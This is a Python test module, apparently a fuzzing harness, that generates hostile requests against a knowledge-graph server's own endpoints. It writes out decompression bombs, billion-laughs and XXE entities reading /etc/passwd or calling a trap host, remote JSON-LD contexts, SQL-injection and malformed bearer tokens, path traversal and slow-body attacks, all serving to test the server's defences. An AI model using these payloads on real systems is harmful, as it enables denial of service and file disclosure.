"""Bodies that grow when they are read, that call out, or that nobody may send."""

from __future__ import annotations

import gzip
import random
import zlib
from urllib.parse import quote

import zstandard

from hostile.shots import MARK, Aim, Kind, Manner, Shot, request

_SPARQL = {"Content-Type": "application/sparql-query"}
_ZEROS = b" " * 100_000_000
_BOMBS = {
    "gzip": gzip.compress(_ZEROS, 9),
    "deflate": zlib.compress(_ZEROS, 9),
    "zstd": zstandard.ZstdCompressor(level=9).compress(_ZEROS),
    "gzip, gzip": gzip.compress(gzip.compress(_ZEROS, 9), 9),
    "zstd, zstd": zstandard.compress(zstandard.compress(_ZEROS)),
    "gzip, zstd": zstandard.compress(gzip.compress(_ZEROS)),
    "gzip, gzip, gzip, gzip": gzip.compress(gzip.compress(_ZEROS, 9), 9),
}
_EMPTY_PARTS = {"gzip": gzip.compress(b"") * 450_000, "zstd": zstandard.compress(b"") * 1_000_000}


def _write(rng: random.Random, aim: Aim, media_type: str, body: bytes) -> Shot:
    """A write with the right token: it is for the parser to refuse it."""
    target = rng.choice(("/graphs?graph=x:hostile", "/graphs/hostile"))
    headers = {"Content-Type": media_type, "Authorization": f"Bearer {aim.token}"}
    return Shot(request(rng.choice(("PUT", "POST")), target, aim, headers, body))


def unpack(rng: random.Random, aim: Aim) -> Shot:
    """Decompression bombs."""
    coding = rng.choice((*_BOMBS, *_EMPTY_PARTS, "br", "gzip"))
    body = rng.choice([bombs[coding] for bombs in (_BOMBS, _EMPTY_PARTS) if coding in bombs] or [b"x" * 1000])
    if rng.random() < 0.2:
        body = body[: rng.randrange(len(body))]
    token = {"Authorization": f"Bearer {aim.token}"}
    headers = rng.choice((_SPARQL, {"Content-Type": "text/plain", **token}, {"Content-Type": "text/turtle", **token}))
    target = {"application/sparql-query": "/sparql", "text/plain": "/articles"}.get(
        headers["Content-Type"], "/graphs?graph=x:hostile"
    )
    return Shot(request("POST", target, aim, {**headers, "Content-Encoding": coding}, body))


def expand(rng: random.Random, aim: Aim) -> Shot:
    """Entity bombs, and entities that lie elsewhere."""
    laughs = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 30))
    rdf = '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:x="x:">{}</rdf:RDF>'
    thing = rdf.format('<rdf:Description rdf:about="x:a"><x:p>&e;</x:p></rdf:Description>')
    url = f"http://{aim.trap}/entity"
    text = rng.choice((
        f'<!DOCTYPE x [<!ENTITY l0 "ha">{laughs}<!ENTITY e "&l29;">]>{thing}',
        f'<!DOCTYPE x [<!ENTITY l0 "{"x" * 100_000}"><!ENTITY e "{"&l0;" * 20_000}">]>{thing}',
        f'<!DOCTYPE x [<!ENTITY e SYSTEM "{url}">]>{thing}',
        f'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>{thing}',
        f'<!DOCTYPE x SYSTEM "{url}.dtd">{thing}',
        f'<!DOCTYPE x PUBLIC "-//x" "{url}.dtd" [<!ENTITY % p SYSTEM "{url}">%p;]>{thing}',
        '<!DOCTYPE x [<!ENTITY e "&e;">]>' + thing,
        rdf.format("<x:a>" * 200_000), rdf.format('<x:a rdf:parseType="Literal">' + "<b>" * 200_000),
        rdf.format('<rdf:Description rdf:about="x:a"><x:p rdf:parseType="Collection">' + "<x:a>" * 100_000),
    ))  # fmt: skip
    return _write(rng, aim, "application/rdf+xml", text.encode())


def link(rng: random.Random, aim: Aim) -> Shot:
    """JSON-LD that is deep, or whose context lies elsewhere."""
    depth = rng.choice((200, 5000, 1_000_000))
    url = f"http://{aim.trap}/context"
    text = rng.choice((
        "[" * depth, "[" * depth + "]" * depth, '{"@graph":' * depth + "1" + "}" * depth, '{"a":' * depth,
        '{"x:p":[' * depth + "]}" * depth, '{"@context":' * depth + "{}" + "}" * depth,
        f'{{"@context":"{url}","@id":"x:a","x:p":1}}', f'{{"@context":["{url}",{{"p":"x:p"}}],"p":1}}',
        f'{{"@context":{{"@import":"{url}"}},"x:p":1}}', f'{{"x:p":{{"@context":"{url}","@id":"x:a"}}}}',
        f'{{"@context":{{"a":{{"@id":"x:a","@context":"{url}"}}}},"a":{{"b":1}}}}',
        '{"@context":"//' + aim.trap + '/context","x:p":1}', '{"@context":"file:///etc/passwd","x:p":1}',
        '{"x:p":"\\ud800"}', '{"@id":"x:a","@type":' + "[" * 120 + "]" * 120 + "}",
        '{"@context":{"a":"b:a","b":"a:b"},"a:x":1',
    ))  # fmt: skip
    return _write(rng, aim, rng.choice(("application/ld+json", "application/json")), text.encode())


def break_turtle(rng: random.Random, aim: Aim) -> Shot:
    depth = rng.choice((1000, 300_000))
    text = rng.choice((
        "<x:a> <x:p> " + "[ <x:p> " * depth, "<x:a> <x:p> " + "(" * depth, "<< " * depth, "{" * depth,
        "<x:a> <x:p> '''" + "x" * depth, "@prefix : <" + "x" * depth, f"@base <http://{aim.trap}/> . <a> <b>",
        "<x:a> <x:p> " + '"' * depth, "\x00" * 100, "<x:a> <x:p> \"\\uD800\" .", "<x:a> <x:p> <x:\\u0020> .",
        "<x:a> <x:p> <<( <x:a> <x:p> 1 )>> .", "GRAPH <x:g> { <x:a> <x:p> 1 }",
    ))  # fmt: skip
    return _write(rng, aim, rng.choice(("text/turtle", "application/n-triples", "text/plain")), text.encode())


def send_parts(rng: random.Random, aim: Aim) -> Shot:
    """Forms that cannot be taken apart."""
    boundary = rng.choice(("b", "b" * 5000, "", '"', "é", "b; boundary=c"))
    part = f"--{boundary}\r\n{rng.choice(('', 'X: ' + 'y' * 50_000, 'Content-Type: text/turtle'))}\r\n\r\n"
    body = (part + f"<x:a> <x:p> {MARK}").encode() * rng.choice((1, 200, 5000))
    return _write(rng, aim, f"multipart/form-data; boundary={boundary}", body)


def break_in(rng: random.Random, aim: Aim) -> Shot:
    """Writes with tokens that are none."""
    token = aim.token
    given = rng.choice((
        "", "Bearer", "Bearer ", "Bearer  ", "Bearer null", f"Bearer {token[:-1]}", f"Bearer {token}x",
        f"Basic {token}",
        f"Bearer {token} {token}", token, f"Token {token}", f"Bearer {token.upper()}", "Bearer " + "x" * 60_000,
        f"Bearer {token}\x00", "Bearer täken", "Bearer \u2028", f"bearer\t{token}", f"Bearer,{token}", "Basic Og==",
        f"Digest username={token}", "Bearer " + "é" * 1000, "Bearer %00", "Bearer ' OR 1=1 --",
    ))  # fmt: skip
    method, target, media_type = rng.choice((
        ("POST", "/articles", "text/plain"), ("PUT", "/graphs/hostile", "text/turtle"),
        ("POST", "/graphs", "text/turtle"), ("DELETE", "/graphs/hostile", "text/turtle"),
        ("DELETE", f"/graphs?graph={quote(f'http://{aim.host}/article/x')}", "text/turtle"),
        ("PUT", "/graphs?default", "text/turtle"), ("PATCH", "/graphs/hostile", "text/turtle"),
        ("PUT", f"/graphs/hostile?token={token}&access_token={token}", "text/turtle"),
    ))  # fmt: skip
    headers = {"Content-Type": media_type}
    if given or rng.random() < 0.5:
        headers["Authorization"] = given
    if rng.random() < 0.1:
        headers["Cookie"] = f"token={token}; Authorization=Bearer {token}"
    return Shot(request(method, target, aim, headers, b"<x:hostile> <x:p> 1 ."))


def overstep(rng: random.Random, aim: Aim) -> Shot:
    """With the token, what is not for writing all the same."""
    base = f"http://{aim.host}/"
    name = rng.choice((
        "urn:x-kg:default", base + "graph/reference", base + "graph/vocabulary", base + "article/0123456789abcdef",
        base + "sparql", base, base + "static/style.css", "x", "x:<script>", "file:///etc/passwd ",
        base + "articl%65/x",
        base + "graph/../article/x", "", " ", "x:\x00", "//" + aim.trap + "/g\n",
    ))  # fmt: skip
    headers = {"Content-Type": "text/turtle", "Authorization": f"Bearer {aim.token}"}
    body = b"<x:hostile> <x:p> ."  # no graph, were it allowed
    return Shot(request("PUT", f"/graphs?graph={quote(name, safe='')}", aim, headers, body))


def hold_bodies(rng: random.Random, aim: Aim) -> Shot:
    """Bodies that never end, or come in drops."""
    size = rng.choice((100, 9_000_000))
    head = request("POST", "/sparql", aim, {**_SPARQL, "Content-Length": str(size)}, b"")
    sent = b" " * rng.choice((0, 50, min(size - 1, 3_000_000)))
    return Shot(head + sent, rng.choice((Manner.IDLE, Manner.GONE)) if len(sent) > 50 else Manner.DRIP)


KINDS = (
    Kind("decompression bombs", unpack, 1.5),
    Kind("entity bombs and XXE", expand, 2),
    Kind("JSON-LD, deep or remote", link, 3),
    Kind("Turtle that breaks", break_turtle, 2),
    Kind("forms that break", send_parts, 1),
    Kind("tokens that are none", break_in, 9),
    Kind("graphs nobody may write", overstep, 3),
    Kind("bodies that never end", hold_bodies, 0.5),
)
